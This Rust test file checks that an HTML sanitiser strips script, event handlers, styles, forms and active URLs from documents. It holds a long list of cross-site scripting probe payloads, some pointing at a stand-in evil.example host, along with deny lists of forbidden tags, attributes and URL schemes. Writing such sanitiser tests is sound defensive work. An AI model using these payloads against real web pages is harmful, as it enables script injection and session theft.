//! Nothing from a document becomes script, an event handler, a style, a form, or an address that
//! acts when it is opened.

use sopwright_html::Node;
use sopwright_sop::Document;

use crate::page::{blocks, checked_page, html};

const PROBES: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "a <img src=x onerror=alert(1)> b",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "![x](javascript:alert(1))",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "<https://x.example/\" onclick=\"alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<form action=\"https://evil.example\"><input type=submit></form>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example'</style>",
    "<p style=\"background:url(https://evil.example)\">x</p>",
    "<object data=\"x.swf\"></object><embed src=\"x.swf\">",
    "<video src=x onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<div data-key=\"control-block\" id=\"document\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>x</x>",
    "<img src=\"x\" title=\"`onerror=alert(1)\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<textarea><script>alert(1)</script></textarea>",
    "| <script>alert(1)</script> | <b onclick=x>y</b> |\n|---|---|\n| <td> | </table> |",
    "1. <li onclick=x>y\n2. </ol><script>alert(1)</script>",
    "# <h1 onclick=x>y</h1>",
    "- [ ] <label><input onfocus=alert(1) autofocus></label>",
    "---\ntitle: <script>alert(1)</script>\nlogo: javascript:alert(1)\nlang: '\" onload=x'\n---\n",
    ":::note{onclick=alert(1)} <script>\n:::",
    ":::x{#a\" .\"onclick=} \n:::",
    "``` \"onclick=alert(1)\nx\n```",
    "text {#a .b onclick=alert(1)}",
    "![x](y.png){width=\"1\\\" onload=alert(1)\"}",
];

fn check_node(node: &Node, probe: &str) {
    let Some(element) = node.as_element() else {
        return;
    };
    let name = &**element.name();
    let forbidden = [
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "base",
        "link",
        "template",
        "noscript",
        "button",
        "textarea",
        "math",
        "foreignObject",
        "video",
    ];
    assert!(!forbidden.contains(&name), "<{name}> of {probe:?}");
    let is_metadata = element.get("charset").is_some() || element.get("name") == Some("viewport");
    assert!(name != "meta" || is_metadata, "<meta> of {probe:?}");
    for attribute in element.attributes() {
        let is_handler = attribute.name.starts_with("on");
        let acts = ["style", "srcdoc", "formaction", "action", "http-equiv", "srcset"];
        assert!(!is_handler && !acts.contains(&&*attribute.name), "{attribute:?} of {probe:?}");
        if matches!(&*attribute.name, "href" | "src" | "xlink:href") {
            let value: String = attribute.value.chars().filter(|c| *c > ' ').collect();
            let value = value.to_ascii_lowercase();
            let is_bad = ["javascript:", "vbscript:", "data:text", "data:image/svg"];
            assert!(is_bad.iter().all(|bad| !value.starts_with(bad)), "{value} of {probe:?}");
        }
    }
    node.children().iter().for_each(|child| check_node(child, probe));
}

#[test]
fn nothing_runs() {
    for probe in PROBES {
        for source in
            [probe.to_string(), format!("> - x\n>\n>   {}", probe.replace('\n', "\n>   "))]
        {
            let page = checked_page(&source);
            check_node(&page.nodes[0], &source);
        }
    }
}

#[test]
fn an_author_cannot_pass_as_the_page() {
    let page = checked_page("<div data-key=\"control-block\" id=\"document\">x</div>");
    let raw = blocks(&page)[0].children()[0].as_element().unwrap().clone();
    assert_eq!(raw.get("data-key"), None);
    assert_eq!(raw.get("id"), Some("user-document"));
}

#[test]
fn harmless_html_stays() {
    let check = |source: &str, expected: &str| {
        let html = html(source);
        assert!(html.contains(expected), "{html}");
    };
    check("H<sub>2</sub>O", "H<sub>2</sub>O</p>");
    check("a<br>b<br/>c", "a<br>b<br>c</p>");
    check("press <kbd>*F1*</kbd>", "<kbd><em>F1</em></kbd>");
    check(
        "<details open><summary>More</summary>\ntext</details>",
        "<details open=\"\"><summary>More</summary>\ntext</details>",
    );
    check("<table><tr><td colspan=2>x</table>", "<td colspan=\"2\">x</td>");
    check("<img src=\"a b.png\" width=3>", "src=\"media/a b.png\" width=\"3\"");
    check("<a href=\"https://x.example\">x</a>", "rel=\"noreferrer noopener\"");
    check(
        "x <img src=\"missing.png\" alt=\"rack\"> y",
        "Picture not found: <code>missing.png</code> <span class=\"missing-alt\">rack</span>",
    );
    check(
        "a <b>b[^1]</b>\n\n[^1]: n",
        "<b>b<sup class=\"footnote-reference\"><a href=\"#fn-1\" id=\"fnref-1\">1</a></sup></b>",
    );
}

#[test]
fn placeholders_are_text() {
    assert!(html("Tag it as <VERSION> now").contains("Tag it as &lt;VERSION&gt; now"));
    assert!(html("<VERSION>").contains("&lt;VERSION&gt;"));
    assert!(html("cd <path> && ls <b>x</b>").contains("cd &lt;path&gt; &amp;&amp; ls <b>x</b>"));
    let document = Document::parse("a <VERSION> <b>c</b>");
    assert_eq!(document.diagnostics()[0].code, "unknown-element");
}

#[test]
fn what_is_removed_is_named() {
    let document = Document::parse("<p onclick=x style=y>a<script>b</script><blink>c</blink>");
    let message = &document.diagnostics()[0].message;
    assert_eq!(
        message,
        "removed from raw HTML: `<blink>`, `<script>`, `onclick` of `<p>`, `style` of `<p>`"
    );
}
